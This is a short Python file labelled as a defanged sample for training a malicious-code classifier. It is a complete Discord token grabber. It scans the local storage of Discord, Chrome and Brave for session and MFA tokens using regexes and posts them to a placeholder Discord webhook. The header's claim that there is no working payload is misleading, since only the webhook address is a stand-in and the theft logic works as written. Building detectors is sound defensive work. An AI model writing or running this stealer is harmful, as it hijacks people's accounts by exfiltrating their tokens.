# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
# Every encoded blob below decodes to a harmless placeholder (a print call) or is a placeholder string.
import os
import re
import json
import urllib.request

WEBHOOK = "https://discord.example.invalid/api/webhooks/000000000000000000/PLACEHOLDER-NOT-A-TOKEN"
local = os.getenv("LOCALAPPDATA")
roaming = os.getenv("APPDATA")
paths = {
    "Discord": roaming + "\\discord\\Local Storage\\leveldb",
    "Discord PTB": roaming + "\\discordptb\\Local Storage\\leveldb",
    "Chrome": local + "\\Google\\Chrome\\User Data\\Default\\Local Storage\\leveldb",
    "Brave": local + "\\BraveSoftware\\Brave-Browser\\User Data\\Default\\Local Storage\\leveldb",
}


def grab(path):
    found = []
    for name in os.listdir(path):
        if not name.endswith((".log", ".ldb")):
            continue
        for line in open(os.path.join(path, name), errors="ignore").readlines():
            for regex in (r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", r"mfa\.[\w-]{84}"):
                found.extend(re.findall(regex, line))
    return found


msg = ""
for platform_name, path in paths.items():
    if os.path.exists(path):
        for token in grab(path):
            msg += platform_name + ": " + token + "\n"

payload = json.dumps({"content": msg, "username": "grabber"}).encode()
req = urllib.request.Request(WEBHOOK, data=payload, headers={"Content-Type": "application/json", "User-Agent": "Mozilla/5.0"})
urllib.request.urlopen(req)
